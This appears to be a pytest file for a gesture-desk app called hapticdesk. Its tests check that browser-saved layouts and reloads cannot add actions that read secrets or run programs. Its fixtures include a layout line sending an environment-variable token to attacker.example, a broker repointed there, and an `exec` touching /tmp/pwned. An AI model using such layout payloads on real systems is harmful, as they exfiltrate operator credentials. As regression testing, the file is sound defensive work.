"""Secrets are the operator's (issue 30, item 1): what reads the environment or a file, runs a
program or holds a connection is fixed by whoever starts the desk; a layout arriving through
the browser UI, a reload (SIGHUP, MQTT `reload`/`layout`) may not add or change any of it.

On b5a43bd one `PUT /api/layout` adding an `http` action with the header `{env: VAR}` was
answered `{"ok": true, "reloaded": true}`, and every tap then sent the variable (an MQTT
password) to a URL of the page's choosing."""

from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from hapticdesk.errors import ConfigError
from hapticdesk.files.recording_io import write_recording
from hapticdesk.files.yamlfile import load_marked_yaml
from hapticdesk.plugin_loading import load_registry
from hapticdesk.runtime.operator_secrets import OperatorSecrets, held_parts, reads_of
from hapticdesk.runtime.service import Runtime

from .scripted import answer_into, scripted_run
from .taps import Tap, tap_recording
from .test_runtime_control import write_layout

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
LOCAL = "http://127.0.0.1:8765"
HEADER = "{Authorization: {env: HAPTICDESK_TEST_SECRET, prefix: 'Bearer '}}"
SENDS_SECRET = (
    "  - {gesture: tap, region: b1, do: {http: {url: 'http://attacker.example/x', "
    f"headers: {HEADER}}}}}}}\n"
)


@pytest.fixture
def ui(tmp_path: Path):
    pytest.importorskip("starlette")
    from starlette.testclient import TestClient

    from hapticdesk.plugins.ui.server import UiServer

    layout = tmp_path / "buttons.yaml"
    shutil.copy(EXAMPLES / "layouts" / "buttons.yaml", layout)

    def client(text: str | None = None) -> TestClient:
        if text is not None:
            layout.write_text(text)
        server = UiServer(layout, load_registry(entry_points=False))
        return TestClient(server.app(), base_url=LOCAL)

    return layout, client


def test_the_page_may_not_add_an_action_that_sends_an_environment_variable(ui) -> None:
    """Guards item 1 itself: the issue's save is refused (422) at the action's line, saying
    why, and the file is left as it was (b5a43bd: saved and reloaded)."""
    layout, client = ui
    before = layout.read_text()
    text = before + SENDS_SECRET
    answer = client().put("/api/layout", content=text)
    assert answer.status_code == 422
    [error] = answer.json()["errors"]
    assert error["line"] == text.count("\n")
    assert error["message"].startswith(
        "`http` reads the environment variable HAPTICDESK_TEST_SECRET: the page may not add or "
        "change what reads the environment or a file"
    )
    assert "secrets are the operator's" in error["message"]
    assert layout.read_text() == before


def test_the_page_may_not_send_an_existing_secret_somewhere_else(ui) -> None:
    """Guards item 1: an operator's webhook with a token from the environment may stay as it
    is, but a save that changes its URL (the same token sent elsewhere) is refused (b5a43bd
    compared `file:` reads only)."""
    layout, client = ui
    mine = SENDS_SECRET.replace("attacker.example", "homeassistant.local")
    started = layout.read_text() + mine
    page = client(started)
    elsewhere = started.replace("homeassistant.local", "attacker.example")
    assert page.put("/api/layout", content=elsewhere).status_code == 422
    assert layout.read_text() == started
    edited = started.replace("region: b2, do: {log: {}}", "region: b2, do: {log: {message: hi}}")
    assert page.put("/api/layout", content=edited).status_code == 200


def test_the_page_may_not_change_the_broker_or_its_credentials(
    ui, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Guards item 1: the `mqtt:` section (the broker its password goes to) is the
    operator's; a page pointing it elsewhere, or adding a password file, is refused (b5a43bd
    saved both: the next start sent the password to the new broker)."""
    layout, client = ui
    monkeypatch.setenv("MQTT_PASSWORD", "s3cret")
    (layout.parent / "token.txt").write_text("s3cret\n")
    started = (
        layout.read_text()
        + "mqtt: {broker: 'mqtt://127.0.0.1:1883', username: desk, password_env: MQTT_PASSWORD}\n"
    )
    page = client(started)
    for changed in (
        started.replace("127.0.0.1:1883", "attacker.example:1883"),
        started.replace("password_env: MQTT_PASSWORD", "password_file: token.txt"),
    ):
        answer = page.put("/api/layout", content=changed)
        assert answer.status_code == 422, answer.text
        assert "the page may not add or change" in answer.json()["errors"][0]["message"]
    assert layout.read_text() == started


def test_one_mechanism_holds_a_third_partys_action_that_reads_a_file(ui) -> None:
    """Guards item 1 for plugins: an action's option that reads the environment or a file
    (`…_env`, `…_file`, `{env:}`, `{file:}`) is held whatever plugin registered it, and a
    plugin's `operator_only` action too, without anything else to declare."""
    assert reads_of({"token_file": "t.txt", "nested": [{"env": "A"}], "other": "x"}) == [
        "the file t.txt",
        "the environment variable A",
    ]
    registry = load_registry(entry_points=False)
    doc = load_marked_yaml(
        "l.yaml",
        "bindings:\n"
        "  - {gesture: tap, do: {log: {message: hi}}}\n"
        "  - {gesture: tap, do: {notify: {api_key_env: KEY}}}\n"
        "  - {gesture: swipe, do: [{log: {}}, {exec: {argv: [true]}}]}\n",
    )
    parts = held_parts(doc, Path("/srv"), registry)
    assert [(str(p.where), p.what) for p in parts] == [
        ("l.yaml:3:33", "`notify` reads the environment variable KEY"),
        ("l.yaml:4:45", "`exec` runs programs"),
    ]
    held = OperatorSecrets([parts])
    assert held.refusal(doc, Path("/srv/l.yaml"), registry, "x", "y") is None


def _run_with_reload(
    tmp_path: Path, paper_desk, change, extra: str = ""
) -> tuple[list[str], list[str]]:
    """A desk tapping on `lamp` for 4 s; at 2.0 s `change(layout_path)` rewrites a layout
    file and a reload is asked for (the control queue SIGHUP and MQTT's /set use). Returns
    the tapped regions and the reload's answers."""
    path = write_layout(tmp_path / "a.yaml", "lamp", extra)
    recording = tap_recording(paper_desk, [Tap(1.5 + 0.5 * k, 0.0, 0.0) for k in range(5)], 4.5)
    answers: list[str] = []

    def reload(runtime: Runtime) -> None:
        runtime.request(*change(path)).add_done_callback(answer_into(answers))

    _, events = scripted_run(path, recording, {2.0: reload}, tmp_path / "events.jsonl")
    return [e["region"] for e in events], answers


def test_a_reload_may_not_add_what_reads_the_environment(tmp_path: Path, paper_desk) -> None:
    """Guards item 1 for reloads (SIGHUP, MQTT `reload`): a layout file rewritten to send an
    environment variable is refused at its place, and the running layout stays (b5a43bd:
    reloaded)."""

    def add_secret(path: Path) -> tuple[str]:
        text = write_layout(path, "fan").read_text()
        path.write_text(text + SENDS_SECRET.replace("region: b1", "region: fan"))
        return ("reload",)

    regions, answers = _run_with_reload(tmp_path, paper_desk, add_secret)
    assert set(regions) == {"lamp"} and len(regions) == 5
    [said] = answers
    assert f"{tmp_path / 'a.yaml'}:10:" in said
    assert "`http` reads the environment variable HAPTICDESK_TEST_SECRET: a reload" in said
    assert "restart the desk to use it" in said


def test_a_named_layout_edited_after_the_start_may_not_add_a_program(
    tmp_path: Path, paper_desk
) -> None:
    """Guards item 1 for `layout NAME` over MQTT: the named layouts are held as they were
    when the desk started; one edited since to run a program is refused on the switch."""

    def edit_named(path: Path) -> tuple[str, str]:
        evening = tmp_path / "evening.yaml"
        evening.write_text(
            write_layout(evening, "fan").read_text()
            + "  - {gesture: double_tap, region: fan, do: {exec: {argv: [touch, /tmp/pwned]}}}\n"
        )
        return ("layout", "evening")

    write_layout(tmp_path / "evening.yaml", "fan")
    regions, answers = _run_with_reload(
        tmp_path, paper_desk, edit_named, extra="layouts: {evening: evening.yaml}"
    )
    assert set(regions) == {"lamp"}
    assert "`exec` runs programs: a reload" in answers[0]


@pytest.mark.skipif(not hasattr(signal, "SIGHUP"), reason="SIGHUP is POSIX")
def test_sighup_may_not_add_what_reads_the_environment(tmp_path: Path, paper_desk) -> None:
    """Guards item 1 for SIGHUP, end to end: `hapticdesk run` keeps its layout and says
    why, taps go on."""
    recording = tmp_path / "taps.csv"
    write_recording(
        recording, tap_recording(paper_desk, [Tap(1.5 + 0.5 * k, 0.0, 0.0) for k in range(10)], 7.0)
    )
    path = write_layout(tmp_path / "a.yaml", "lamp")
    events = tmp_path / "events.jsonl"
    process = subprocess.Popen(
        [sys.executable, "-m", "hapticdesk", "run", "--layout", str(path), "--source",
         f"replay:{recording}", "--speed", "1", "--events", str(events)],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "HAPTICDESK_TEST_SECRET": "s3cret"},
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not (
            events.exists() and events.read_text().count("\n") >= 2
        ):
            time.sleep(0.05)
        text = write_layout(path, "fan").read_text()
        path.write_text(text + SENDS_SECRET.replace("region: b1", "region: fan"))
        os.kill(process.pid, signal.SIGHUP)
        _, err = process.communicate(timeout=40)
    finally:
        process.kill()
    assert process.returncode == 0, err
    assert "control: `reload` refused" in err and "restart the desk to use it" in err
    assert "s3cret" not in err
    assert events.read_text().count('"region": "lamp"') == 10


def test_refusals_name_their_place_for_a_section_too() -> None:
    """Guards item 1: a refusal is a ConfigError at the held part's position."""
    registry = load_registry(entry_points=False)
    started = load_marked_yaml("a.yaml", "mqtt: {broker: 'mqtt://h'}\n")
    later = load_marked_yaml("a.yaml", "x: 1\nmqtt: {broker: 'mqtt://evil'}\n")
    held = OperatorSecrets.from_start(started, Path("/srv/a.yaml"), registry)
    refused = held.refusal(later, Path("/srv/a.yaml"), registry, "the page", "do it by hand")
    assert isinstance(refused, ConfigError)
    assert str(refused).startswith("a.yaml:2:7: `mqtt:` (the connection): the page may not")
